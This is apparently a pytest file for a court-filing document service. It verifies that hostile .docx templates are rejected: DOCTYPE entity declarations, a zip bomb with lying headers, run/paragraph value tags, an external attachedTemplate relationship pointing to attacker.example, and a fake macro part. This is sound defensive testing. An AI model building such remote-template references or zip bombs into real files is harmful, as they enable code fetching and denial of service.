"""Hostile .docx uploads (issue 16, items 11-14): refused at upload, never copied into a filing.

Every file is built here: a DOCTYPE with entities, a zip bomb whose headers lie, {{r}} / {{p}}
value tags, an outside template reference and a macro part."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from documents import TemplateRejected, check_template, render_filing

ROOT = Path(__file__).resolve().parents[3]


def codes(problems) -> list[str]:
    return [p.code for p in problems]


def rewrite(docx_bytes: bytes, changes: dict[str, bytes | None]) -> bytes:
    """The same archive with some parts replaced, added (new names) or removed (None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in changes:
                data = changes[info.filename]
                if data is not None:
                    dst.writestr(info.filename, data)
            else:
                dst.writestr(info, src.read(info))
        for name, data in changes.items():
            if name not in src.namelist() and data is not None:
                dst.writestr(name, data)
    return out.getvalue()


def part(docx_bytes: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as archive:
        return archive.read(name)


# ---------------------------------------------------------------- item 11: DOCTYPE


@pytest.mark.parametrize("name", ["word/document.xml", "word/styles.xml", "[Content_Types].xml"])
def test_a_doctype_in_any_part_is_refused(make_docx, name: str) -> None:
    template = make_docx("{{ firm }}")
    xml = part(template, name)
    declaration, rest = xml.split(b"?>", 1)
    hostile = declaration + b'?><!DOCTYPE x [<!ENTITY e "entity">]>' + rest
    bad = rewrite(template, {name: hostile})
    problems = check_template(bad)
    assert codes(problems) == ["invalid_docx"]
    assert "DOCTYPE" in problems[0].message and problems[0].where == name
    with pytest.raises(TemplateRejected):
        render_filing(bad, {"fields": {"firm": "Smith & Sons <Ltd>"}})


def test_without_a_doctype_values_keep_their_symbols(make_docx, docx_text) -> None:
    output = render_filing(make_docx("{{ firm }}"), {"fields": {"firm": "Smith & Sons <Ltd>"}})
    assert "Smith & Sons <Ltd>" in docx_text(output)


# ---------------------------------------------------------------- item 12: zip bomb

BOMB_CHECK = r"""
import json, resource, sys, time
from documents import check_template
data = open(sys.argv[1], "rb").read()
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
problems = check_template(data)
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"extra_kb": peak - base, "codes": [p.code for p in problems]}))
"""


def test_a_zip_bomb_with_lying_headers_is_refused_without_inflating_it(tmp_path) -> None:
    sys.path.insert(0, str(ROOT / "bench"))
    try:
        import zip_bomb_upload as bomb
    finally:
        sys.path.remove(str(ROOT / "bench"))
    path = tmp_path / "bomb.docx"
    original = bomb.INFLATED
    bomb.INFLATED = 256 * 1024 * 1024  # enough to see, quick to build
    try:
        bomb.build_bomb(path)
    finally:
        bomb.INFLATED = original
    assert path.stat().st_size < 2 * 1024 * 1024
    result = subprocess.run([sys.executable, "-c", BOMB_CHECK, str(path)], capture_output=True,
                            text=True, check=True, cwd=ROOT)
    outcome = json.loads(result.stdout)
    assert outcome["codes"] == ["invalid_docx"]
    # Before the fix the whole part was inflated (and parsed): hundreds of MB.
    assert outcome["extra_kb"] < 100 * 1024


def test_a_part_that_honestly_inflates_past_the_limit_is_refused(make_docx) -> None:
    template = make_docx("{{ firm }}")
    xml = part(template, "word/document.xml")
    padded = xml.replace(b"<w:body>", b"<w:body>" + b" " * (9 * 1024 * 1024))
    problems = check_template(rewrite(template, {"word/document.xml": padded}))
    assert codes(problems) == ["invalid_docx"]
    assert "unpacks" in problems[0].message


# ---------------------------------------------------------------- item 13: {{r}} / {{p}}


@pytest.mark.parametrize("tag", ["{{r firm }}", "{{p firm }}", "{{tc firm }}"])
def test_run_and_paragraph_value_tags_are_refused(make_docx, tag: str) -> None:
    problems = check_template(make_docx(["Firm:", tag]))
    assert codes(problems) == ["unsupported_tag"]
    assert "{{ name }}" in problems[0].message


def test_a_tag_split_over_runs_is_still_found(make_docx) -> None:
    template = make_docx("placeholder")
    xml = part(template, "word/document.xml").replace(
        b"<w:t>placeholder</w:t>", b"<w:t>{{</w:t></w:r><w:r><w:t>r firm }}</w:t>")
    problems = check_template(rewrite(template, {"word/document.xml": xml}))
    assert codes(problems) == ["unsupported_tag"]


def test_plain_tags_and_paragraph_control_tags_still_pass(make_docx) -> None:
    template = make_docx(["{%p if firm %}", "{{ firm }} {{p}}", "{%p endif %}"])
    assert check_template(template) == []


# ---------------------------------------------------------------- item 14: outside refs, macros

ATTACHED = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
            b'TargetMode="External"/>')
HYPERLINK = (b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/'
             b'2006/relationships/hyperlink" Target="https://court.example/" '
             b'TargetMode="External"/>')
RELS_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
             b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">')


def test_an_outside_template_reference_is_refused(make_docx) -> None:
    template = make_docx("{{ firm }}")
    bad = rewrite(template, {"word/_rels/settings.xml.rels":
                             RELS_HEAD + ATTACHED + b"</Relationships>"})
    problems = check_template(bad)
    assert codes(problems) == ["invalid_docx"]
    assert "attachedTemplate" in problems[0].message
    with pytest.raises(TemplateRejected):
        render_filing(bad, {"fields": {"firm": "x"}})


def test_an_outside_hyperlink_is_allowed(make_docx) -> None:
    template = make_docx("{{ firm }}")
    rels = part(template, "word/_rels/document.xml.rels").replace(
        b"</Relationships>", HYPERLINK + b"</Relationships>")
    assert check_template(rewrite(template, {"word/_rels/document.xml.rels": rels})) == []


def test_a_macro_part_is_refused(make_docx) -> None:
    template = make_docx("{{ firm }}")
    bad = rewrite(template, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really vba"})
    problems = check_template(bad)
    assert codes(problems) == ["invalid_docx"]
    assert "macros" in problems[0].message
    with pytest.raises(TemplateRejected):
        render_filing(bad, {"fields": {"firm": "x"}})
